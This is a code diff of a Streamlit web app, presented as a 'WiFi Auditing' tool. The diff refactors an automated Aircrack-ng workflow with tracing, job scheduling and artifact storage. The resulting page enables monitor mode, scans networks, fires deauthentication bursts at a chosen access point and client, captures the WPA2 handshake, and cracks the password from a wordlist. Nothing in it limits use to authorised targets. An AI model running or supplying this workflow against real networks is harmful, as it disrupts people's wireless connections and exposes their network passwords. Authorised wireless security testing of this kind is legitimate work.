@@ -1,32 +1,41 @@
+import time
+page_started = time.perf_counter()
+
 import streamlit as st
 import subprocess
 import os
-import shutil
-import time
-import pandas as pd
 import re
-import signal
+from runner import RING_SIZE
+from utils import run_command, command_monitor, get_supervisor, current_session_id, launch_job, scheduled, traced, get_artifact_store, page_startup
 
 st.set_page_config(page_title="WiFi Auditing", page_icon="📶", layout="wide")
 
 st.header("📶 WiFi WPA2/Handshake Attack")
 st.markdown("Automated wrapper for **Aircrack-ng Suite**. Performs Monitor Mode switching, Network Scanning, Deauthentication (Handshake Capture), and Cracking.")
 
+page_startup("WiFi Auditing", page_started)
+
 # --- HELPERS ---
 def run_cmd(cmd_list, timeout=None):
     """Run a command and return stdout. Optional timeout."""
-    try:
-        result = subprocess.run(
-            cmd_list, 
-            capture_output=True, 
-            text=True, 
-            timeout=timeout
-        )
-        return result.stdout
-    except subprocess.TimeoutExpired:
-        return "TIMEOUT"
-    except Exception as e:
-        return str(e)
+    with traced(cmd_list) as trace:
+        try:
+            with trace.spawning():
+                proc = subprocess.Popen(trace.command, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
+            try:
+                out, _ = proc.communicate(timeout=timeout)
+            except subprocess.TimeoutExpired:
+                proc.kill()
+                proc.communicate()
+                trace.error = "timeout"
+                trace.exited(proc.returncode, stopped=True)
+                return "TIMEOUT"
+            trace.exited(proc.returncode)
+            trace.output(out)
+            return out
+        except Exception as e:
+            trace.error = str(e)
+            return str(e)
 
 # --- SIDEBAR CONFIG ---
 with st.sidebar:
@@ -37,6 +46,12 @@ with st.sidebar:
     
     st.info(f"Targeting Monitor Interface: **{mon_interface}**")
 
+# Only one session at a time may drive the wireless card
+iface_lock = (f"iface:{mon_interface}",)
+
+# Scans and captures are kept in per-run directories of the artifact store
+artifacts = get_artifact_store()
+
 # --- STEP 1: MONITOR MODE ---
 st.subheader("Step 1: Enable Monitor Mode")
 
@@ -48,6 +63,12 @@ with col1:
         
         st.info(f"Starting monitor on {interface_name}...")
         out = run_cmd(["airmon-ng", "start", interface_name])
+
+        # Make sure networking comes back even if this tab is simply closed
+        get_supervisor().register_session_cleanup(current_session_id(), "monitor_mode", [
+            ["airmon-ng", "stop", mon_interface],
+            ["service", "NetworkManager", "start"],
+        ])
         
         if "monitor mode enabled" in out or "already" in out:
             st.success(f"✅ Monitor Mode Enabled on {mon_interface}")
@@ -60,6 +81,7 @@ with col2:
     if st.button("🛑 Stop Monitor Mode"):
         run_cmd(["airmon-ng", "stop", mon_interface])
         run_cmd(["service", "NetworkManager", "start"])
+        get_supervisor().unregister_session_cleanup(current_session_id(), "monitor_mode")
         st.success("Monitor mode stopped. Networking restored.")
 
 
@@ -72,30 +94,32 @@ scan_dur = st.slider("Scan Duration (seconds)", 5, 30, 10)
 if st.button("📡 Scan Networks"):
     st.info(f"Scanning on {mon_interface} for {scan_dur} seconds...")
     
-    # We dump to a csv file to parse it easily
-    csv_prefix = "/tmp/airodump_scan"
-    
-    # Clean up old files
-    for f in os.listdir("/tmp"):
-        if f.startswith("airodump_scan"):
-            os.remove(os.path.join("/tmp", f))
+    # We dump to a csv file to parse it easily, each scan gets a fresh directory
+    scan_dir = artifacts.new_run("wifi_scan")
+    csv_prefix = os.path.join(scan_dir, "airodump_scan")
+    generated_file = artifacts.path(scan_dir, "airodump_scan-01.csv")
             
     # Run airodump-ng with a timeout
     cmd = ["airodump-ng", "-w", csv_prefix, "--output-format", "csv", mon_interface]
     
     try:
         # We use Popen so we can kill it after X seconds
-        proc = subprocess.Popen(cmd, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
-        time.sleep(scan_dur)
-        proc.terminate()
-        proc.wait()
+        with traced(cmd) as trace, scheduled("airodump-ng", iface_lock) as ticket:
+            trace.queued(ticket)
+            with trace.spawning():
+                proc = subprocess.Popen(trace.command, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+            time.sleep(scan_dur)
+            proc.terminate()
+            proc.wait()
+            # The scan ends by design once its duration is up
+            trace.exited(proc.returncode, stopped=True)
         
         # Read the CSV
-        generated_file = f"{csv_prefix}-01.csv"
         if os.path.exists(generated_file):
             try:
                 # Airodump CSV is messy. The first section is APs, second is Clients.
                 # We only want the first section.
+                import pandas as pd
                 df = pd.read_csv(generated_file, header=None, on_bad_lines='skip')
                 
                 # Find where the "Station MAC" section starts and cut it off
@@ -118,6 +142,9 @@ if st.button("📡 Scan Networks"):
                 st.write("Raw contents:")
                 with open(generated_file, 'r') as f:
                     st.text(f.read())
+
+            # Keep the scan around compressed
+            artifacts.compress(generated_file)
         else:
             st.error("No scan file generated. Is the interface in monitor mode?")
             
@@ -142,6 +169,10 @@ st.subheader("Step 4: Capture Handshake")
 
 capture_file = "handshake_capture"
 
+# This session's latest capture, or the newest one on disk after a reload
+capture_dir = st.session_state.get("capture_dir") or artifacts.latest_run("handshake")
+cap_file = os.path.join(capture_dir, f"{capture_file}-01.cap") if capture_dir else None
+
 col_act1, col_act2 = st.columns(2)
 
 with col_act1:
@@ -150,17 +181,17 @@ with col_act1:
         if not target_bssid or not target_channel:
             st.error("BSSID and Channel are required.")
         else:
-            # Clean old captures
-            for f in os.listdir("."):
-                if f.startswith(capture_file):
-                    os.remove(f)
+            # Every listener writes into its own run directory
+            capture_dir = artifacts.new_run("handshake")
+            st.session_state['capture_dir'] = capture_dir
+            cap_file = artifacts.path(capture_dir, f"{capture_file}-01.cap")
 
             # Command: airodump-ng -c <CH> --bssid <BSSID> -w <FILE> <INT>
             cmd = [
                 "airodump-ng",
                 "-c", target_channel,
                 "--bssid", target_bssid,
-                "-w", capture_file,
+                "-w", os.path.join(capture_dir, capture_file),
                 mon_interface
             ]
             
@@ -171,13 +202,16 @@ with col_act1:
             
             st.info(f"Listening on Channel {target_channel} for 20 seconds. PREPARE TO DEAUTH NOW!")
             
-            # Start listener process
-            proc_dump = subprocess.Popen(cmd, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+            # Start listener process, the supervisor stops it after 10 minutes at the latest
+            dump_job = launch_job(
+                "airodump-ng listener", cmd,
+                max_runtime=600,
+                resources=iface_lock
+            )
             
-            # Store PID in session state if needed, but for simple flow we sleep
             # Wait a few seconds for it to initialize
             time.sleep(2) 
-            st.session_state['dump_pid'] = proc_dump.pid
+            st.session_state['dump_job'] = dump_job
             st.success("Listener Active...")
 
 with col_act2:
@@ -187,7 +221,7 @@ with col_act2:
             st.error("Target BSSID required.")
         else:
             # FIX: Force channel lock before firing
-            subprocess.run(["iwconfig", mon_interface, "channel", target_channel])
+            run_cmd(["iwconfig", mon_interface, "channel", target_channel])
             
             # Construct Deauth command
             # aireplay-ng --deauth 10 -a <BSSID> -c <VICTIM> <INT>
@@ -199,21 +233,19 @@ with col_act2:
             cmd.append("--ignore-negative-one") # The Fix for RPi errors
             
             st.warning("Firing 10 deauth bursts...")
-            res = run_cmd(cmd)
+            with scheduled("aireplay-ng", iface_lock):
+                res = run_cmd(cmd)
             st.code(res)
 
 # Stop listener after user is done
 if st.button("🛑 Stop Listener & Check Handshake"):
-    if 'dump_pid' in st.session_state:
-        try:
-            os.kill(st.session_state['dump_pid'], signal.SIGTERM)
+    if 'dump_job' in st.session_state:
+        if get_supervisor().stop(st.session_state.pop('dump_job')):
             st.success("Listener Stopped.")
-        except:
-            pass
     
     # Check if .cap file exists and has size
-    cap_file = f"{capture_file}-01.cap"
-    if os.path.exists(cap_file):
+    if cap_file and os.path.exists(cap_file):
+        artifacts.refresh(cap_file)
         size = os.path.getsize(cap_file)
         if size > 1000:
             st.success(f"✅ Capture file found ({size} bytes). Ready to crack!")
@@ -230,43 +262,34 @@ st.subheader("Step 5: Crack WPA2")
 wordlist = st.text_input("Wordlist Path", "/home/kali/autoMate/password.txt")
 
 if st.button("🔓 Start Cracking"):
-    cap_file = f"{capture_file}-01.cap"
-    if not os.path.exists(cap_file):
+    if not cap_file or not os.path.exists(cap_file):
         st.error("No capture file to crack.")
     else:
         # aircrack-ng -w <wordlist> -b <BSSID> <CAP_FILE>
         cmd = ["aircrack-ng", "-w", wordlist, "-b", target_bssid, cap_file]
         
         st.info("Running Aircrack-ng... (This might take a while)")
-        
-        # This gives real-time output
-        process = subprocess.Popen(
-            cmd,
-            stdout=subprocess.PIPE,
-            stderr=subprocess.PIPE,
-            text=True
-        )
-        
-        output_container = st.empty()
-        full_log = []
-        
-        while True:
-            line = process.stdout.readline()
-            if not line:
-                break
-            full_log.append(line)
-            # Update less frequently to save UI resources
-            if len(full_log) % 5 == 0:
-                output_container.code("".join(full_log[-20:]))
-                
-        # Final check for Key Found
-        full_text = "".join(full_log)
-        if "KEY FOUND" in full_text:
+
+        # Cracking is CPU bound, it waits for a free aircrack-ng slot and keeps running while you browse
+        run_command(cmd, background=True, key="aircrack")
+
+
+def show_key(runner):
+    """Looks for the key in the end of aircrack-ng's output once it is done."""
+    if not runner.done or runner.stopped:
+        return
+    key_match = None
+    for line in runner.tail(RING_SIZE):
+        key_match = key_match or re.search(r'KEY FOUND! \[ (.*) \]', line)
+    if key_match:
+        # Celebrate once, not on every rerun of the page
+        if st.session_state.get("aircrack_celebrated") != runner.run_id:
+            st.session_state.aircrack_celebrated = runner.run_id
             st.balloons()
-            st.success("🎉 KEY FOUND!")
-            # Extract key using regex
-            match = re.search(r'KEY FOUND! \[ (.*) \]', full_text)
-            if match:
-                st.header(f"🔑 Password: {match.group(1)}")
-        else:
-            st.error("❌ Password not found in wordlist.")
+        st.success("🎉 KEY FOUND!")
+        st.header(f"🔑 Password: {key_match.group(1)}")
+    else:
+        st.error("❌ Password not found in wordlist.")
+
+
+command_monitor("aircrack", extra=show_key)